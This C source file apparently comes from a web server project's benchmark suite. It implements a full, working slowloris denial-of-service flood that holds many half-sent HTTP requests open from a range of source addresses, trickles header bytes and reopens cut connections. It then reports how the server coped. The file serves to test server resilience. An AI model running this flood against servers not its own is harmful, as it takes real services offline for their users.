/* A slowloris flood from one process: connections that never finish their request head. */
/*
 * usage: slowloris HOST:PORT --sources A[-B][,C...] --per-source N [--seconds S]
 *                  [--every-ms MS] [--reopen]
 * Opens N connections from each source address (IPv4; A-B is every address from A to B),
 * binding before connecting, and sends each the start of a request head. Then, like
 * tests/tools/http_abuse.py flood (whose output it keeps, summed over all sources):
 *   - once the server has settled (every connect done and none closed for 1 s; 10 s at
 *     most), prints "held H refused R": H still open, R closed or never connected;
 *   - sends one more byte of header on every open connection each MS ms (default 1000,
 *     spread over the period), so the head never ends;
 *   - after S seconds (default 30) or once all are closed, prints "cut C of H" (C: held
 *     connections the server closed, by EOF or reset), when the cuts came, and, with
 *     --reopen (a connection the server closed is opened again 100 ms later), how many
 *     were re-opened and how many of those are open at the end.
 * One thread, epoll, non-blocking sockets: the flood costs the machine little CPU, so a
 * figure measured beside it is the server's. Exit 0, or 2 on bad arguments or set-up.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include "common/grow.h"
#include "common/monotime.h"
#include "common/num.h"

#define MAX_SOURCES 1024
#define SETTLE_MS   1000  /* no close for this long: the server has settled */
#define SETTLE_MAX  10000 /* but stop waiting after this long */
#define REOPEN_MS   100   /* a cut connection is opened again this long after */
#define TICK_MS     10    /* the longest epoll wait: trickled bytes are this punctual */

static const char HEAD[] = "GET / HTTP/1.1\r\nHost: x\r\n";

enum state { CONNECTING, OPEN, CLOSED };

struct conn {
    int fd; /* -1 once closed */
    int src;
    enum state state;
    int held;       /* open when the server settled, and not closed since */
    int reopened;   /* opened again after a close */
    int64_t opened; /* ms, when connect was called */
    int64_t next;   /* ms: the next byte of header (OPEN), or the re-open (CLOSED) */
};

struct flood {
    struct sockaddr_in dst;
    struct in_addr src[MAX_SOURCES];
    int n_src, per_source, every_ms, reopen;
    double seconds;
    int ep;
    struct conn *c;
    int n;
    int64_t t0, last_close;
    long reopens, held_cut;
    int64_t *open_ms; /* how long each closed connection had been open, n_closes of them */
    long n_closes;
    size_t cap_closes;
    int64_t first_at, last_at; /* ms since t0; first_at -1: none yet */
};

/* "A" or "A-B" (same first three octets or not: every address from A to B). */
static int add_sources(struct flood *f, char *list)
{
    for (char *item = list, *comma; item; item = comma ? comma + 1 : NULL) {
        comma = strchr(item, ',');
        if (comma)
            *comma = '\0';
        char *dash = strchr(item, '-');
        if (dash)
            *dash = '\0';
        struct in_addr a, b;
        if (inet_pton(AF_INET, item, &a) != 1 || (dash && inet_pton(AF_INET, dash + 1, &b) != 1))
            return 0;
        uint32_t lo = ntohl(a.s_addr), hi = dash ? ntohl(b.s_addr) : lo;
        for (uint64_t x = lo; x <= hi; x++) {
            if (f->n_src == MAX_SOURCES)
                return 0;
            f->src[f->n_src++].s_addr = htonl((uint32_t)x);
        }
    }
    return f->n_src > 0;
}

static void watch(struct flood *f, struct conn *k, int op, uint32_t events)
{
    struct epoll_event ev = {.events = events, .data.ptr = k};
    if (epoll_ctl(f->ep, op, k->fd, &ev) != 0) {
        perror("slowloris: epoll_ctl");
        exit(2);
    }
}

/* The server closed k (or it never connected): note when, and maybe open it again. */
static void closed(struct flood *f, struct conn *k, int64_t now)
{
    close(k->fd); /* also takes it out of the epoll set */
    k->fd = -1;
    k->state = CLOSED;
    k->next = now + REOPEN_MS;
    f->last_close = now;
    f->held_cut += k->held;
    k->held = 0;
    if (grow_array((void **)&f->open_ms, &f->cap_closes, (size_t)f->n_closes + 1,
                   sizeof *f->open_ms) != ERR_OK) {
        fprintf(stderr, "slowloris: out of memory\n");
        exit(2);
    }
    f->open_ms[f->n_closes++] = now - k->opened;
    if (f->first_at < 0)
        f->first_at = now - f->t0;
    f->last_at = now - f->t0;
}

static void open_conn(struct flood *f, struct conn *k, int64_t now)
{
    k->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (k->fd < 0) {
        perror("slowloris: socket");
        exit(2);
    }
    struct sockaddr_in src = {.sin_family = AF_INET, .sin_addr = f->src[k->src]};
    k->opened = now;
    k->state = CONNECTING;
    if (bind(k->fd, (struct sockaddr *)&src, sizeof src) != 0) {
        perror("slowloris: bind");
        exit(2);
    }
    if (connect(k->fd, (struct sockaddr *)&f->dst, sizeof f->dst) != 0 && errno != EINPROGRESS) {
        closed(f, k, now);
        return;
    }
    watch(f, k, EPOLL_CTL_ADD, EPOLLOUT | EPOLLIN | EPOLLRDHUP);
}

/* A byte (or the head) to k; 0 when the server has closed it. */
static int send_some(struct conn *k, const char *p, size_t len)
{
    ssize_t w = send(k->fd, p, len, MSG_NOSIGNAL | MSG_DONTWAIT);
    return w >= 0 || errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR;
}

/* Whatever the server sent (a 408, say) is read and dropped; 0 at EOF or reset. */
static int drain(struct conn *k)
{
    char sink[4096];
    for (;;) {
        ssize_t r = recv(k->fd, sink, sizeof sink, MSG_DONTWAIT);
        if (r > 0)
            continue;
        return r < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR);
    }
}

static void on_event(struct flood *f, struct conn *k, uint32_t events, int64_t now)
{
    if (k->state == CONNECTING && (events & (EPOLLOUT | EPOLLERR | EPOLLHUP))) {
        int e = 0;
        socklen_t len = sizeof e;
        if (getsockopt(k->fd, SOL_SOCKET, SO_ERROR, &e, &len) != 0 || e != 0 ||
            !send_some(k, HEAD, sizeof HEAD - 1)) {
            closed(f, k, now);
            return;
        }
        k->state = OPEN;
        int64_t period = f->every_ms;
        k->next = now + period + (period * (k - f->c)) / f->n; /* spread over the period */
        watch(f, k, EPOLL_CTL_MOD, EPOLLIN | EPOLLRDHUP);
        return;
    }
    if (k->state == OPEN && (events & (EPOLLIN | EPOLLRDHUP | EPOLLHUP | EPOLLERR)) && !drain(k))
        closed(f, k, now);
}

/* One round: wait for events, then the bytes and re-opens that are due. */
static void step(struct flood *f, int settled)
{
    struct epoll_event ev[256];
    int n = epoll_wait(f->ep, ev, 256, TICK_MS);
    int64_t now = monotime_ms();
    for (int i = 0; i < n; i++)
        on_event(f, ev[i].data.ptr, ev[i].events, now);
    for (int i = 0; i < f->n; i++) {
        struct conn *k = &f->c[i];
        if (k->state == OPEN && now >= k->next) {
            k->next += f->every_ms;
            if (!send_some(k, "X", 1)) /* one more byte of a header name */
                closed(f, k, now);
        } else if (k->state == CLOSED && f->reopen && settled && now >= k->next) {
            k->reopened = 1;
            f->reopens++;
            open_conn(f, k, now);
        }
    }
}

static int count(const struct flood *f, enum state s)
{
    int n = 0;
    for (int i = 0; i < f->n; i++)
        n += f->c[i].state == s;
    return n;
}

static int cmp_i64(const void *a, const void *b)
{
    int64_t x = *(const int64_t *)a, y = *(const int64_t *)b;
    return (x > y) - (x < y);
}

/* The closing lines: cuts of the held, and when the server closed connections. */
static void report(struct flood *f, int held)
{
    int reopen_open = 0;
    for (int i = 0; i < f->n; i++)
        reopen_open += f->c[i].reopened && f->c[i].state == OPEN;
    printf("cut %ld of %d\n", f->held_cut, held);
    if (f->n_closes) {
        int64_t *t = f->open_ms;
        long n = f->n_closes;
        qsort(t, (size_t)n, sizeof *t, cmp_i64);
        printf("closed by the server: %ld, after %.1f to %.1f s open (median %.1f), the first "
               "%.1f s and the last %.1f s into the run\n",
               n, t[0] / 1000.0, t[n - 1] / 1000.0, t[n / 2] / 1000.0, f->first_at / 1000.0,
               f->last_at / 1000.0);
    }
    if (f->reopen)
        printf("reopened %ld, %d of them open at the end\n", f->reopens, reopen_open);
}

static int parse_args(struct flood *f, int argc, char **argv)
{
    static const struct option opts[] = {
        {"sources", required_argument, NULL, 's'}, {"per-source", required_argument, NULL, 'n'},
        {"seconds", required_argument, NULL, 'S'}, {"every-ms", required_argument, NULL, 'e'},
        {"reopen", no_argument, NULL, 'r'},        {NULL, 0, NULL, 0},
    };
    int c;
    while ((c = getopt_long(argc, argv, "", opts, NULL)) != -1) {
        int ok = 1;
        if (c == 's')
            ok = add_sources(f, optarg);
        else if (c == 'n')
            ok = num_parse_int(optarg, 1, 60000, &f->per_source);
        else if (c == 'S')
            ok = num_parse_double(optarg, 0, 86400, &f->seconds);
        else if (c == 'e')
            ok = num_parse_int(optarg, 1, 3600000, &f->every_ms);
        else if (c == 'r')
            f->reopen = 1;
        else
            ok = 0;
        if (!ok) {
            fprintf(stderr, "slowloris: bad arguments (see the top of bench/slowloris.c)\n");
            return 0;
        }
    }
    char *colon = optind == argc - 1 ? strrchr(argv[optind], ':') : NULL;
    int port;
    if (!colon || !f->n_src || !f->per_source || !num_parse_int(colon + 1, 1, 65535, &port)) {
        fprintf(stderr, "usage: slowloris HOST:PORT --sources A[-B] --per-source N "
                        "[--seconds S] [--every-ms MS] [--reopen]\n");
        return 0;
    }
    *colon = '\0';
    f->dst.sin_family = AF_INET;
    f->dst.sin_port = htons((uint16_t)port);
    if (inet_pton(AF_INET, argv[optind], &f->dst.sin_addr) != 1) {
        fprintf(stderr, "slowloris: %s is not an IPv4 address\n", argv[optind]);
        return 0;
    }
    return 1;
}

int main(int argc, char **argv)
{
    static struct flood f = {.every_ms = 1000, .seconds = 30, .first_at = -1};
    if (!parse_args(&f, argc, argv))
        return 2;
    f.n = f.n_src * f.per_source;
    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < (rlim_t)f.n + 32) {
        rl.rlim_cur = (rlim_t)f.n + 32;
        if (rl.rlim_cur > rl.rlim_max || setrlimit(RLIMIT_NOFILE, &rl) != 0) {
            fprintf(stderr, "slowloris: cannot open %d files (ulimit -Hn)\n", f.n + 32);
            return 2;
        }
    }
    f.c = calloc((size_t)f.n, sizeof *f.c);
    f.ep = epoll_create1(EPOLL_CLOEXEC);
    if (!f.c || f.ep < 0) {
        perror("slowloris");
        return 2;
    }
    f.t0 = f.last_close = monotime_ms();
    for (int i = 0; i < f.n; i++) {
        f.c[i].src = i / f.per_source;
        open_conn(&f, &f.c[i], monotime_ms());
    }
    /* Settled: every connect done, and no close for SETTLE_MS (SETTLE_MAX at most). */
    int64_t now = f.t0;
    while (now - f.t0 < SETTLE_MAX && (count(&f, CONNECTING) || now - f.last_close < SETTLE_MS)) {
        step(&f, 0);
        now = monotime_ms();
    }
    int held = 0;
    for (int i = 0; i < f.n; i++)
        held += f.c[i].held = f.c[i].state == OPEN;
    f.held_cut = 0;
    printf("held %d refused %d\n", held, f.n - held);
    fflush(stdout);
    int64_t end = now + (int64_t)(f.seconds * 1000);
    while (monotime_ms() < end && (f.reopen || count(&f, CLOSED) < f.n))
        step(&f, 1);
    report(&f, held);
    return 0;
}
